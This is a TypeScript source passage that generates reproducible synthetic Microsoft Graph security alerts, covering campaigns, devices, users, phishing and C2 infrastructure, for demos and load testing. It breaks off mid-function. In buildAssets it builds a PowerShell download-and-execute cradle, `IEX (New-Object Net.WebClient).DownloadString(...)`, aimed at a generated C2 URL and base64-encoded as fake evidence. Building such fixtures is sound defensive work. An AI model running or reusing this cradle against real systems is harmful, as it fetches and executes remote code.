/**
 * Streaming generator of realistic, reproducible Graph `alert` (alerts_v2) JSON for demos and load tests.
 *
 * Shape of the data:
 * - `incidents` campaigns start over [end − spanDays, end) with a diurnal/weekly rhythm. Each
 *   campaign has its own device and user and 1–8 alerts (skewed to 1–3) spread over a few hours; a
 *   multi-alert campaign follows one storyline from the catalog (phishing → beacon → ransomware, …).
 * - Every alert carries the campaign's deviceEvidence first and its userEvidence second, then the
 *   template's evidence. Entity values (device ids/names, UPNs, IPs, domains, URLs, hashes, message
 *   ids) are unique per campaign: names come from per-seed bijections of the campaign index, ids and
 *   hashes from 128+ random bits.
 * - ~mergeRate of campaigns emit one "tie" alert that additionally carries (as the LAST evidence
 *   element) the deviceEvidence or userEvidence of an earlier campaign started ≤ 6 h before.
 * - ~5% of campaigns contain a repeat occurrence: one of their templates fires again on the same
 *   device and user 20 min – 3 h later (new alert id, same detectorId/title and evidence).
 *
 * Memory stays bounded: campaigns are planned in start order, and only campaigns whose alerts are
 * still pending (a ~14 h window) are held, as small plans; alert JSON is built when emitted.
 */
import { Buffer } from "node:buffer";
import type { AlertClassification, AlertDetermination, AlertSeverity } from "../schema/enums.js";
import {
  ALERTS_PER_CAMPAIGN,
  BINARIES,
  C2_PATHS,
  C2_WORDS,
  CLOUD_APPS,
  COM_SURROGATE_CLSIDS,
  DEPARTMENTS,
  DOMAIN_CONTROLLERS,
  FILE_ROLES,
  FIRST_NAMES,
  HOME_PLACES,
  LAST_NAMES,
  LATERAL_TARGETS,
  ORGS,
  OS_VERSIONS,
  OUTBOUND_SUBJECTS,
  PHISH_PATHS,
  PHISH_SUBJECTS,
  PHISH_WORDS,
  PUBLIC_IP_BLOCKS,
  REMOTE_PLACES,
  SENDER_NAMES,
  SERVER_OS_VERSIONS,
  SERVER_ROLES,
  STORYLINES,
  TASK_NAMES,
  TEMPLATES,
  TLDS,
  WORDS,
  WORKSTATION_KINDS,
} from "./catalog.js";
import type { AlertTemplate, IpSlot, Org, Place, Storyline, UrlSlot } from "./catalog.js";
import { Rng } from "./random.js";

export interface SeedOptions {
  /** Same seed + options ⇒ identical output, byte for byte. */
  seed: string | number;
  tenantId: string;
  /** Number of correlated clusters ("campaigns") to produce. */
  incidents: number;
  /** Timeline ends here (default: now; pass a fixed date for reproducibility). */
  end?: Date;
  /** Timeline covers this many days before `end` (default 28). */
  spanDays?: number;
  /** Fraction of campaigns that also carry an entity of an earlier campaign (default 0.03). */
  mergeRate?: number;
}

/** Graph alert JSON. */
export type GraphAlertInput = Record<string, unknown>;

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;
/** Maximum alerts per batch. */
export const SEED_BATCH_SIZE = 500;
/** A tie links to a campaign that started at most this long before the tying campaign. */
export const TIE_LOOKBACK_MS = 6 * HOUR;
/** Fraction of campaigns with a repeat occurrence. */
export const REPEAT_RATE = 0.05;
const MAX_ALERTS = 8;

const TEMPLATE_BY_KEY = new Map(TEMPLATES.map((t) => [t.key, t]));
for (const s of STORYLINES) {
  for (const k of s.steps) if (!TEMPLATE_BY_KEY.has(k)) throw new Error(`storyline ${s.key}: unknown template ${k}`);
}
const SINGLE_WEIGHTS = TEMPLATES.map((t) => [t, t.weight] as const);
const STORYLINE_WEIGHTS = STORYLINES.map((s) => [s, s.weight] as const);
const DETECTOR_IDS = new Map(TEMPLATES.map((t) => [t.key, new Rng("detector", t.key).guid()]));

/** The stable `detectorId` of a catalog template (independent of the seed). */
export function detectorIdOf(templateKey: string): string | undefined {
  return DETECTOR_IDS.get(templateKey);
}

// ---------------------------------------------------------------------------------------------
// Unique tokens: affine bijections i ↦ (a·i + b) mod m, so distinct campaign indexes never collide.

function mulmod(a: number, i: number, m: number): number {
  const hi = Math.floor(i / 65536);
  const lo = i % 65536;
  return (((a * hi) % m) * 65536 + a * lo) % m;
}

class Bijection {
  readonly m: number;
  private readonly a: number;
  private readonly b: number;

  constructor(rng: Rng, m: number, primes: readonly number[]) {
    let a: number;
    do a = rng.int(Math.floor(m / 3), m - 1);
    while (primes.some((p) => a % p === 0));
    this.m = m;
    this.a = a;
    this.b = rng.int(0, m - 1);
  }

  map(i: number): number {
    return (mulmod(this.a, i % this.m, this.m) + this.b) % this.m;
  }
}

const B36_6 = 36 ** 6;
const PUBLIC_SPACE = PUBLIC_IP_BLOCKS.length * 2 ** 24;
const IP_SLOTS: Record<Exclude<IpSlot, "internal">, number> = { attacker: 0, c2: 1, sender: 2, home: 3 };
const DOMAIN_SLOTS = { phish: 0, c2: 1, sender: 2, external: 3 } as const;

interface Ctx {
  seed: string;
  tenantId: string;
  endMs: number;
  beginMs: number;
  incidents: number;
  mergeRate: number;
  org: Org;
  netbios: string;
  tenantShort: string;
  sidPrefix: string;
  hostPerm: Bijection;
  userPerm: Bijection;
  domainPerm: Bijection;
  publicIpPerm: Bijection;
  internalIpPerm: Bijection;
  idSalt: number;
}

function makeCtx(opts: SeedOptions): Ctx {
  const incidents = Math.max(0, Math.floor(opts.incidents));
  if (!Number.isFinite(incidents)) throw new RangeError("incidents must be a finite number");
  const spanDays = opts.spanDays ?? 28;
  if (!(spanDays > 0)) throw new RangeError("spanDays must be positive");
  const mergeRate = opts.mergeRate ?? 0.03;
  if (!(mergeRate >= 0 && mergeRate <= 1)) throw new RangeError("mergeRate must be within [0, 1]");
  const endMs = (opts.end ?? new Date()).getTime();
  if (!Number.isFinite(endMs)) throw new RangeError("end must be a valid date");
  const seed = String(opts.seed);
  const rng = new Rng(seed, "tenant");
  const org = rng.pick(ORGS);
  const firstLabel = org.domain.split(".")[0] ?? "corp";
  return {
    seed,
    tenantId: opts.tenantId,
    endMs,
    beginMs: endMs - Math.round(spanDays * DAY),
    incidents,
    mergeRate,
    org,
    netbios: firstLabel.toUpperCase().slice(0, 15),
    tenantShort: firstLabel,
    sidPrefix: `S-1-5-21-${rng.int(1_000_000_000, 4_000_000_000)}-${rng.int(1_000_000_000, 4_000_000_000)}-${rng.int(100_000_000, 4_000_000_000)}`,
    hostPerm: new Bijection(rng, B36_6, [2, 3]),
    userPerm: new Bijection(rng, 10_000_000, [2, 5]),
    domainPerm: new Bijection(rng, B36_6, [2, 3]),
    publicIpPerm: new Bijection(rng, PUBLIC_SPACE, [2, 5]),
    internalIpPerm: new Bijection(rng, 2 ** 24, [2]),
    idSalt: rng.uint32(),
  };
}

/** Base-36 token, 6 chars for i < 36^6 and ≥ 7 chars beyond, so it stays injective for every i. */
function b36Token(perm: Bijection, i: number): string {
  return i < perm.m ? perm.map(i).toString(36).padStart(6, "0") : i.toString(36);
}

function publicIp(ctx: Ctx, index: number, slot: Exclude<IpSlot, "internal">): string {
  // Unique for index < 167M; wraps (and may collide) beyond.
  const v = ctx.publicIpPerm.map(index * 4 + IP_SLOTS[slot]);
  const block = PUBLIC_IP_BLOCKS[Math.floor(v / 2 ** 24)] ?? 45;
  const rest = v % 2 ** 24;
  return `${block}.${rest >>> 16}.${(rest >>> 8) & 255}.${rest & 255}`;
}

function internalIp(ctx: Ctx, index: number): string {
  // Unique for index < 16.7M.
  const v = ctx.internalIpPerm.map(index);
  return `10.${v >>> 16}.${(v >>> 8) & 255}.${v & 255}`;
}

/** Skews a uniform [0, 1) towards 0. Plain products (not `**`) keep results exact on every platform. */
function square(x: number): number {
  return x * x;
}

function cube(x: number): number {
  return x * x * x;
}

// ---------------------------------------------------------------------------------------------
// Time formatting: Graph-style 7-digit fractional seconds.

let isoDay = NaN;
let isoDayPrefix = "";

const PAD2 = Array.from({ length: 60 }, (_, i) => String(i).padStart(2, "0"));
const PAD3 = Array.from({ length: 1000 }, (_, i) => String(i).padStart(3, "0"));
const PAD4 = Array.from({ length: 10000 }, (_, i) => String(i).padStart(4, "0"));

/** `ms` plus `sub` (0–9999 ten-thousandths of a millisecond) as `YYYY-MM-DDThh:mm:ss.fffffffZ`. */
function iso(ms: number, sub: number): string {
  const day = Math.floor(ms / DAY);
  if (day !== isoDay) {
    isoDay = day;
    isoDayPrefix = new Date(day * DAY).toISOString().slice(0, 11);
  }
  const t = ms - day * DAY;
  const h = Math.floor(t / HOUR);
  const m = Math.floor((t % HOUR) / MINUTE);
  const s = Math.floor((t % MINUTE) / 1000);
  return `${isoDayPrefix}${PAD2[h]}:${PAD2[m]}:${PAD2[s]}.${PAD3[t % 1000]}${PAD4[sub]}Z`;
}

function isoR(ms: number, rng: Rng): string {
  return iso(ms, rng.int(0, 9999));
}

// ---------------------------------------------------------------------------------------------
// Patterns and placeholders

function pattern(s: string, rng: Rng): string {
  return s.replace(/\{(n[1-6]|hex6|hex8|HEX8|word|Word)\}/g, (_m, p: string) => {
    if (p[0] === "n") {
      const digits = Number(p.slice(1));
      return String(rng.int(10 ** (digits - 1), 10 ** digits - 1));
    }
    if (p === "hex6") return rng.hex(6);
    if (p === "hex8") return rng.hex(8);
    if (p === "HEX8") return rng.hex(8).toUpperCase();
    const w = rng.pick(WORDS);
    return p === "Word" ? w.charAt(0).toUpperCase() + w.slice(1) : w;
  });
}

function fill(s: string, vars: (name: string, arg: string | undefined) => string): string {
  return s.replace(/\{\{(\w+)(?::(\w+))?\}\}/g, (_m, name: string, arg: string | undefined) => vars(name, arg));
}

function ascii(s: string): string {
  return s
    .normalize("NFD")
    .replace(/[^A-Za-z]/g, "")
    .toLowerCase();
}

// ---------------------------------------------------------------------------------------------
// Per-campaign assets: a pure function of (seed, campaign index, start time).

interface FileInfo {
  fileName: string;
  filePath: string | null;
  fullPath: string;
  fileSize: number;
  sha1: string;
  sha256: string;
  md5: string;
  signer: string | null;
  issuer: string | null;
  filePublisher: string | null;
  detectionStatus: string;
}

interface Message {
  networkMessageId: string;
  internetMessageId: string;
  subject: string;
  senderIp: string;
  recipientEmailAddress: string;
  senderDisplayName: string;
  senderDomain: string;
  senderEmail: string;
  receivedMs: number;
  direction: "Inbound" | "Outbound";
}

interface Assets {
  index: number;
  startMs: number;
  // user
  displayName: string;
  accountName: string;
  upn: string;
  azureAdUserId: string;
  userSid: string;
  userObjectGuid: string;
  // device
  hostName: string;
  fqdn: string;
  mdeDeviceId: string;
  azureAdDeviceId: string;
  osPlatform: string;
  osBuild: number;
  osVersion: string;
  healthStatus: string;
  riskScore: string;
  rbacGroupId: number;
  rbacGroupName: string;
  defenderAvStatus: string;
  firstSeenMs: number;
  firstSeenSub: number;
  internalIp: string;
  ipv6: string;
  vip: boolean;
  // network & infrastructure
  places: Record<Exclude<IpSlot, "internal">, Place>;
  ips: Record<IpSlot, string>;
  urls: Record<UrlSlot, string>;
  c2Domain: string;
  inbound: Message;
  outbound: Message;
  b64: string;
  task: string;
  regValue: string;
  lateral: string;
  dc: string;
  lsassPid: number;
  token8: string;
  clsid: string;
  files: Map<string, FileInfo>;
  bins: Map<string, FileInfo>;
}

function domainName(ctx: Ctx, index: number, slot: keyof typeof DOMAIN_SLOTS, rng: Rng, words: readonly string[]): string {
  const token = b36Token(ctx.domainPerm, index * 4 + DOMAIN_SLOTS[slot]);
  return `${rng.pick(words)}-${token}.${rng.pick(TLDS)}`;
}

function buildAssets(ctx: Ctx, index: number, startMs: number): Assets {
  const rng = new Rng(ctx.seed, "assets", index);
  const first = rng.pick(FIRST_NAMES);
  const last = rng.pick(LAST_NAMES);
  const userNum = index < ctx.userPerm.m ? ctx.userPerm.map(index) : index; // ≥ 8 digits beyond the bijection's range
  const accountName = `${ascii(first).charAt(0)}${ascii(last)}${userNum}`;
  const upn = `${ascii(first)}.${ascii(last)}${userNum}@${ctx.org.domain}`;

  const server = rng.chance(0.08);
  const hostToken = b36Token(ctx.hostPerm, index).toUpperCase();
  const dept = rng.pick(DEPARTMENTS);
  const hostName = server ? `SRV-${rng.pick(SERVER_ROLES)}-${hostToken}` : `${dept[0]}-${rng.pick(WORKSTATION_KINDS)}-${hostToken}`;
  const os = rng.weighted((server ? SERVER_OS_VERSIONS : OS_VERSIONS).map((o) => [o, o[3]] as const));

  const home = rng.pick(HOME_PLACES);
  const places = { home, attacker: rng.pick(REMOTE_PLACES), c2: rng.pick(REMOTE_PLACES), sender: rng.pick(REMOTE_PLACES) };
  const ips: Record<IpSlot, string> = {
    attacker: publicIp(ctx, index, "attacker"),
    c2: publicIp(ctx, index, "c2"),
    sender: publicIp(ctx, index, "sender"),
    home: publicIp(ctx, index, "home"),
    internal: internalIp(ctx, index),
  };

  const phishDomain = domainName(ctx, index, "phish", rng, PHISH_WORDS);
  const c2Domain = domainName(ctx, index, "c2", rng, C2_WORDS);
  const senderDomain = domainName(ctx, index, "sender", rng, PHISH_WORDS);
  const externalToken = b36Token(ctx.domainPerm, index * 4 + DOMAIN_SLOTS.external);
  const upnLocal = upn.replace(/[@.]/g, "_");
  const urls: Record<UrlSlot, string> = {
    phish: `https://${phishDomain}/${rng.pick(PHISH_PATHS)}?id=${rng.hex(16)}`,
    c2: `https://${c2Domain}/${rng.pick(C2_PATHS)}`,
    download: `http://${c2Domain}/dl/${rng.hex(8)}.${rng.pick(["bin", "dat", "png", "txt", "zip"])}`,
    share: `https://${ctx.tenantShort}-my.sharepoint.com/:x:/g/personal/${upnLocal}/E${rng.hex(20)}?e=${rng.hex(6)}`,
  };

  const receivedMs = startMs - rng.int(2 * MINUTE, 40 * MINUTE);
  const senderLocal = rng.pick(["no-reply", "support", "billing", "hr", "voicemail", "admin", "docs", "notifications"]);
  const inbound: Message = {
    networkMessageId: rng.guid(),
    internetMessageId: `<${rng.hex(24).toUpperCase()}@${senderDomain}>`,
    subject: pattern(rng.pick(PHISH_SUBJECTS), rng),
    senderIp: ips.sender,
    recipientEmailAddress: upn,
    senderDisplayName: rng.pick(SENDER_NAMES),
    senderDomain,
    senderEmail: `${senderLocal}@${senderDomain}`,
    receivedMs,
    direction: "Inbound",
  };
  const outbound: Message = {
    networkMessageId: rng.guid(),
    internetMessageId: `<${rng.pick(["PH0PR11MB", "SA1PR21MB", "DM6PR04MB", "AM0PR83MB"])}${rng.int(1000, 9999)}${rng.hex(12).toUpperCase()}@${ctx.tenantShort}.prod.outlook.com>`,
    subject: pattern(rng.pick(OUTBOUND_SUBJECTS), rng),
    senderIp: ips.home,
    recipientEmailAddress: `${ascii(first)}${ascii(last)}.${externalToken}@${rng.pick(["gmail.com", "outlook.com", "proton.me", "yahoo.com"])}`,
    senderDisplayName: `${first} ${last}`,
    senderDomain: ctx.org.domain,
    senderEmail: upn,
    receivedMs: startMs + rng.int(0, 10 * MINUTE),
    direction: "Outbound",
  };

  const cradle = `IEX (New-Object Net.WebClient).DownloadString('${urls.c2}')`;
  return {
    index,
    startMs,
    displayName: `${first} ${last}`,
    accountName,
    upn,
    azureAdUserId: rng.guid(),
    userSid: `${ctx.sidPrefix}-${1105 + userNum}`,
    userObjectGuid: rng.guid(),
    hostName,
    fqdn: `${hostName.toLowerCase()}.${ctx.org.domain}`,
    mdeDeviceId: rng.hex(40),
    azureAdDeviceId: rng.guid(),
    osPlatform: os[0],
    osBuild: os[1],
    osVersion: os[2],
    healthStatus: rng.weighted([
      ["active", 90],
      ["inactive", 4],
      ["impairedCommunication", 3],
      ["noSensorData", 3],
    ]),
    riskScore: rng.weighted([
      ["none", 10],
      ["low", 30],
      ["medium", 35],
      ["high", 20],
      ["informational", 5],
    ]),
    rbacGroupId: server ? 9000 + rng.int(1, 20) : 1000 + DEPARTMENTS.indexOf(dept) * 10 + rng.int(0, 3),
    rbacGroupName: server ? rng.pick(["Tier 1 Servers", "Production Servers", "Datacenter Servers"]) : dept[1],
    defenderAvStatus: rng.weighted([
      ["updated", 86],
      ["notUpdated", 9],
      ["disabled", 2],
      ["notReporting", 3],
    ]),
    firstSeenMs: startMs - rng.int(20 * DAY, 900 * DAY),
    firstSeenSub: rng.int(0, 9999),
    internalIp: ips.internal,
    ipv6: `fe80::${rng.hex(4)}:${rng.hex(4)}:${rng.hex(4)}:${rng.hex(4)}`,
    vip: !server && dept[0] === "EXEC",
    places,
    ips,
    urls,
    c2Domain,
    inbound,
    outbound,
    b64: Buffer.from(cradle, "utf16le").toString("base64"),
    task: pattern(rng.pick(TASK_NAMES), rng),
    regValue: pattern(rng.pick(["{Word}Update", "{Word}Helper", "{word}svc", "OneDrive{hex6}", "{Word}Agent"]), rng),
    lateral: rng.pick(LATERAL_TARGETS),
    dc: rng.pick(DOMAIN_CONTROLLERS),
    lsassPid: 4 * rng.int(150, 400),
    token8: rng.hex(8),
    clsid: rng.pick(COM_SURROGATE_CLSIDS),
    files: new Map(),
    bins: new Map(),
  };
}

function campaignFile(ctx: Ctx, a: Assets, role: keyof typeof FILE_ROLES): FileInfo {
  let f = a.files.get(role);
  if (f) return f;
  const spec = FILE_ROLES[role];
  const rng = new Rng(ctx.seed, "file", a.index, role);
  const fileName = pattern(rng.pick(spec.names), rng);
  const dir = fill(pattern(rng.pick(spec.dirs), rng), (name) => placeholder(ctx, a, name, undefined));
  const signer = "signer" in spec ? spec.signer : null;
  f = {
    fileName,
    filePath: dir === "" ? null : dir,
    fullPath: dir === "" ? fileName : dir.endsWith("\\") ? dir + fileName : `${dir}\\${fileName}`,
    fileSize: rng.int(spec.size[0], spec.size[1]),
    sha1: rng.hex(40),
    sha256: rng.hex(64),
    md5: rng.hex(32),
    signer: signer?.signer ?? null,
    issuer: signer?.issuer ?? null,
    filePublisher: signer?.publisher ?? null,
    detectionStatus: spec.detectionStatus,
  };
  a.files.set(role, f);
  return f;
}

/** System binaries get per-campaign hashes too (as if builds differ), so no hash is shared across campaigns. */
function campaignBinary(ctx: Ctx, a: Assets, name: keyof typeof BINARIES): FileInfo {
  let f = a.bins.get(name);
  if (f) return f;
  const spec = BINARIES[name];
  const rng = new Rng(ctx.seed, "bin", a.index, name);
  f = {
    fileName: name,
    filePath: spec.path,
    fullPath: `${spec.path}\\${name}`,
    fileSize: rng.int(spec.size[0], spec.size[1]),
    sha1: rng.hex(40),
    sha256: rng.hex(64),
    md5: rng.hex(32),
    signer: spec.signer,
    issuer: spec.issuer,
    filePublisher: spec.publisher,
    detectionStatus: "detected",
  };
  a.bins.set(name, f);
  return f;
}

const BINARY_BY_LOWER = new Map(Object.keys(BINARIES).map((k) => [k.toLowerCase(), k as keyof typeof BINARIES]));

/** The executable a command line starts: a known system binary or one of the campaign's files. */
function imageOf(ctx: Ctx, a: Assets, commandLine: string): FileInfo | undefined {
  const m = /^"([^"]+)"|^(\S+)/.exec(commandLine);
  const token = m?.[1] ?? m?.[2];
  if (!token) return undefined;
  for (const f of a.files.values()) if (f.fullPath === token) return f;
  const bin = BINARY_BY_LOWER.get((token.split("\\").pop() ?? token).toLowerCase());
  return bin ? campaignBinary(ctx, a, bin) : undefined;
}

function placeholder(ctx: Ctx, a: Assets, name: string, arg: string | undefined): string {
  switch (name) {
    case "account":
      return a.accountName;
    case "upn":
      return a.upn;
    case "host":
      return a.hostName;
    case "fqdn":
      return a.fqdn;
    case "netbios":
      return ctx.netbios;
    case "domain":
      return ctx.org.domain;
    case "org":
      return ctx.org.name;
    case "url":
      return a.urls.phish;
    case "c2url":
      return a.urls.c2;
    case "downloadUrl":
      return a.urls.download;
    case "c2domain":
      return a.c2Domain;
    case "c2ip":
      return a.ips.c2;
    case "b64":
      return a.b64;
    case "task":
      return a.task;
    case "regValue":
      return a.regValue;
    case "dc":
      return a.dc;
    case "lateral":
      return a.lateral;
    case "pid":
      return String(a.lsassPid);
    case "hex8":
      return a.token8;
    case "clsid":
      return a.clsid;
    case "file":
    case "name": {
      if (!arg || !(arg in FILE_ROLES)) throw new Error(`unknown file role ${arg ?? ""}`);
      const f = campaignFile(ctx, a, arg as keyof typeof FILE_ROLES);
      return name === "file" ? f.fullPath : f.fileName;
    }
    default:
      throw new Error(`unknown placeholder {{${name}}}`);
  }
}

// ---------------------------------------------------------------------------------------------
// Campaign planning (time-ordered)

type Status = "new" | "inProgress" | "resolved";

interface AlertPlan {
  t: AlertTemplate;
  activityMs: number;
  lastActivityMs: number;
  createdMs: number;
  createdSub: number;
  tie: boolean;
}

interface Tie {
  index: number;
  startMs: number;
  kind: "device" | "user";
}

interface CampaignPlan {
  index: number;
  startMs: number;
  actor: string | null;
  alerts: AlertPlan[];
  tie: Tie | null;
  status: Status;
  classification: AlertClassification | null;
  determination: AlertDetermination | null;
  updatedMs: number;
  resolvedMs: number | null;
  remaining: number;
  assets: Assets | null;
}

/** UTC hour-of-day activity (a tenant mostly in the Americas and Europe). */
const HOUR_FACTOR = [0.55, 0.45, 0.4, 0.35, 0.35, 0.4, 0.5, 0.65, 0.85, 1.0, 1.1, 1.2, 1.35, 1.5, 1.6, 1.65, 1.65, 1.6, 1.5, 1.4, 1.25, 1.05, 0.85, 0.7];

/** Campaign start times, ascending: exactly `incidents` of them, distributed per hour by weight. */
function* campaignStarts(ctx: Ctx): Generator<number> {
  const n = ctx.incidents;
  if (n === 0) return;
  const rng = new Rng(ctx.seed, "timeline");
  const buckets = Math.ceil((ctx.endMs - ctx.beginMs) / HOUR);
  const dayJitter = new Map<number, number>();
  const weight = (b: number): number => {
    const s = ctx.beginMs + b * HOUR;
    const len = Math.min(HOUR, ctx.endMs - s);
    const day = Math.floor(s / DAY);
    let j = dayJitter.get(day);
    if (j === undefined) {
      j = new Rng(ctx.seed, "day", day).float(0.75, 1.25) * (new Rng(ctx.seed, "burst", day).chance(0.08) ? 1.7 : 1);
      dayJitter.set(day, j);
    }
    const weekday = new Date(s).getUTCDay();
    const weekend = weekday === 0 || weekday === 6 ? 0.5 : 1;
    return (len / HOUR) * (HOUR_FACTOR[new Date(s).getUTCHours()] ?? 1) * weekend * j;
  };
  let total = 0;
  for (let b = 0; b < buckets; b++) total += weight(b);
  dayJitter.clear();
  let cum = 0;
  let emitted = 0;
  for (let b = 0; b < buckets; b++) {
    cum += weight(b);
    const target = b === buckets - 1 ? n : Math.min(n, Math.round((n * cum) / total));
    const count = target - emitted;
    if (count <= 0) continue;
    const s = ctx.beginMs + b * HOUR;
    const len = Math.min(HOUR, ctx.endMs - s);
    const times = new Float64Array(count);
    for (let i = 0; i < count; i++) times[i] = s + Math.floor(rng.next() * len);
    times.sort();
    for (const t of times) yield t;
    emitted = target;
    if (dayJitter.size > 4) dayJitter.clear();
  }
}

const TP_BY_DEFAULT: readonly (readonly [AlertClassification, number])[] = [
  ["truePositive", 55],
  ["falsePositive", 20],
  ["informationalExpectedActivity", 25],
];

function chooseTemplates(rng: Rng): { templates: AlertTemplate[]; storyline: Storyline | null } {
  const k = rng.weighted(ALERTS_PER_CAMPAIGN);
  if (k === 1) return { templates: [rng.weighted(SINGLE_WEIGHTS)], storyline: null };
  const storyline = rng.weighted(STORYLINE_WEIGHTS);
  const steps = storyline.steps;
  const take = Math.min(k, steps.length);
  // Ordered sample of `take` steps (selection sampling).
  const templates: AlertTemplate[] = [];
  let need = take;
  for (let i = 0; i < steps.length && need > 0; i++) {
    if (rng.next() * (steps.length - i) < need) {
      const t = TEMPLATE_BY_KEY.get(steps[i] ?? "");
      if (t) templates.push(t);
      need--;
    }
  }
  return { templates, storyline };
}

function planCampaign(ctx: Ctx, index: number, startMs: number, tieTarget: (rng: Rng) => Tie | null): CampaignPlan {
  const rng = new Rng(ctx.seed, "plan", index);
  const { templates, storyline } = chooseTemplates(rng);
  const actor = storyline?.actors && rng.chance(0.4) ? rng.pick(storyline.actors) : null;

  const alerts: AlertPlan[] = [];
  let activity = startMs;
  const timing = (t: AlertTemplate, at: number): AlertPlan => {
    const lastActivityMs = at + Math.floor(cube(rng.next()) * 40 * MINUTE);
    return {
      t,
      activityMs: at,
      lastActivityMs,
      createdMs: lastActivityMs + 30_000 + Math.floor(square(rng.next()) * 25 * MINUTE),
      createdSub: rng.int(0, 9999),
      tie: false,
    };
  };
  templates.forEach((t, i) => {
    if (i > 0) activity += MINUTE + Math.floor(square(rng.next()) * 90 * MINUTE);
    alerts.push(timing(t, activity));
  });
  if (alerts.length < MAX_ALERTS && rng.chance(REPEAT_RATE)) {
    const orig = rng.pick(alerts);
    alerts.push(timing(orig.t, orig.activityMs + rng.int(20 * MINUTE, 3 * HOUR)));
  }
  // Alerts after the end of the timeline have not happened yet; the first one is pulled in.
  const first = alerts[0];
  if (first && first.createdMs > ctx.endMs) {
    first.createdMs = ctx.endMs;
    first.createdSub = 0;
    first.lastActivityMs = Math.min(first.lastActivityMs, ctx.endMs);
  }
  const kept = alerts.filter((a) => a.createdMs <= ctx.endMs);

  let tie: Tie | null = null;
  if (rng.chance(ctx.mergeRate)) {
    tie = tieTarget(rng);
    if (tie) rng.pick(kept).tie = true;
  }

  // Triage state as of the end of the timeline.
  let lastCreated = startMs;
  for (const a of kept) lastCreated = Math.max(lastCreated, a.createdMs);
  const age = ctx.endMs - lastCreated;
  const status: Status =
    age < 2 * DAY
      ? rng.weighted([
          ["new", 90],
          ["inProgress", 8],
          ["resolved", 2],
        ])
      : age < 7 * DAY
        ? rng.weighted([
            ["new", 70],
            ["inProgress", 12],
            ["resolved", 18],
          ])
        : rng.weighted([
            ["new", 50],
            ["inProgress", 10],
            ["resolved", 40],
          ]);
  let classification: AlertClassification | null = null;
  let determination: AlertDetermination | null = null;
  let resolvedMs: number | null = null;
  let updatedMs = lastCreated + rng.int(0, 10 * MINUTE);
  if (status === "resolved") {
    classification = rng.weighted(TP_BY_DEFAULT);
    const main = kept[kept.length - 1]?.t ?? templates[0];
    if (classification === "truePositive") {
      determination = actor ? "multiStagedAttack" : kept.length >= 3 ? "multiStagedAttack" : (main?.determination ?? "other");
    } else if (classification === "falsePositive") {
      determination = rng.weighted([
        ["notMalicious", 70],
        ["notEnoughDataToValidate", 25],
        ["other", 5],
      ]);
    } else {
      determination = rng.weighted([
        ["securityTesting", 40],
        ["lineOfBusinessApplication", 35],
        ["confirmedActivity", 25],
      ]);
    }
    resolvedMs = lastCreated + Math.max(10 * MINUTE, Math.floor(age * rng.float(0.02, 0.9)));
    updatedMs = resolvedMs;
  } else if (status === "inProgress") {
    updatedMs = lastCreated + Math.floor(age * rng.float(0.05, 0.95));
  }
  updatedMs = Math.min(updatedMs, ctx.endMs);
  if (resolvedMs !== null) resolvedMs = Math.min(resolvedMs, ctx.endMs);

  return {
    index,
    startMs,
    actor,
    alerts: kept,
    tie,
    status,
    classification,
    determination,
    updatedMs,
    resolvedMs,
    remaining: kept.length,
    assets: null,
  };
}

/** Campaign plans in start order, with the small look-back window the ties draw from. */
function* planCampaigns(ctx: Ctx): Generator<CampaignPlan> {
  const recentIdx: number[] = [];
  const recentStart: number[] = [];
  let head = 0;
  let index = 0;
  for (const startMs of campaignStarts(ctx)) {
    while (head < recentStart.length && (recentStart[head] ?? 0) < startMs - TIE_LOOKBACK_MS) head++;
    if (head > 4096 && head * 2 > recentStart.length) {
      recentIdx.splice(0, head);
      recentStart.splice(0, head);
      head = 0;
    }
    const tieTarget = (rng: Rng): Tie | null => {
      if (head >= recentIdx.length) return null;
      const k = rng.int(head, recentIdx.length - 1);
      return { index: recentIdx[k] ?? 0, startMs: recentStart[k] ?? 0, kind: rng.chance(0.5) ? "device" : "user" };
    };
    yield planCampaign(ctx, index, startMs, tieTarget);
    recentIdx.push(index);
    recentStart.push(startMs);
    index++;
  }
}

// ---------------------------------------------------------------------------------------------
// Evidence

const NS = "#microsoft.graph.security.";

interface EvidenceBase {
  created: string;
  verdict: string;
  remediationStatus: string;
  roles: readonly string[];
  detailedRoles: readonly string[];
  tags?: readonly string[];
}

function evidence(type: string, b: EvidenceBase, fields: Record<string, unknown>): Record<string, unknown> {
  // Object.assign, not spread: V8 builds a spread-then-extended literal ~30x slower.
  const o: Record<string, unknown> = {
    "@odata.type": NS + type,
    createdDateTime: b.created,
    verdict: b.verdict,
    remediationStatus: b.remediationStatus,
    remediationStatusDetails: null,
    roles: [...b.roles],
    detailedRoles: [...b.detailedRoles],
    tags: [...(b.tags ?? [])],
  };
  return Object.assign(o, fields);
}

function userAccount(ctx: Ctx, a: Assets): Record<string, unknown> {
  return {
    accountName: a.accountName,
    domainName: ctx.netbios,
    userSid: a.userSid,
    azureAdUserId: a.azureAdUserId,
    userPrincipalName: a.upn,
    displayName: a.displayName,
    activeDirectoryObjectGuid: a.userObjectGuid,
  };
}

function deviceEvidence(ctx: Ctx, a: Assets, b: EvidenceBase): Record<string, unknown> {
  return evidence(
    "deviceEvidence",
    { ...b, tags: a.vip ? ["VIP"] : [] },
    {
      firstSeenDateTime: iso(a.firstSeenMs, a.firstSeenSub),
      mdeDeviceId: a.mdeDeviceId,
      azureAdDeviceId: a.azureAdDeviceId,
      deviceDnsName: a.fqdn,
      hostName: a.hostName.toLowerCase(),
      ntDomain: ctx.netbios,
      dnsDomain: ctx.org.domain,
      osPlatform: a.osPlatform,
      osBuild: a.osBuild,
      version: a.osVersion,
      healthStatus: a.healthStatus,
      riskScore: a.riskScore,
      rbacGroupId: a.rbacGroupId,
      rbacGroupName: a.rbacGroupName,
      onboardingStatus: "onboarded",
      defenderAvStatus: a.defenderAvStatus,
      lastIpAddress: a.internalIp,
      lastExternalIpAddress: a.ips.home,
      ipInterfaces: [a.internalIp, a.ipv6], // no loopback: it would be shared by every device
      loggedOnUsers: [{ accountName: a.accountName, domainName: ctx.netbios }],
      vmMetadata: null,
    },
  );
}

function userEvidence(ctx: Ctx, a: Assets, b: EvidenceBase): Record<string, unknown> {
  return evidence("userEvidence", b, { userAccount: userAccount(ctx, a), stream: null });
}

function fileDetails(f: FileInfo): Record<string, unknown> {
  return {
    fileName: f.fileName,
    filePath: f.filePath,
    filePublisher: f.filePublisher,
    fileSize: f.fileSize,
    issuer: f.issuer,
    signer: f.signer,
    md5: f.md5,
    sha1: f.sha1,
    sha256: f.sha256,
    sha256Ac: null,
  };
}

function ipEvidence(a: Assets, slot: IpSlot, b: EvidenceBase): Record<string, unknown> {
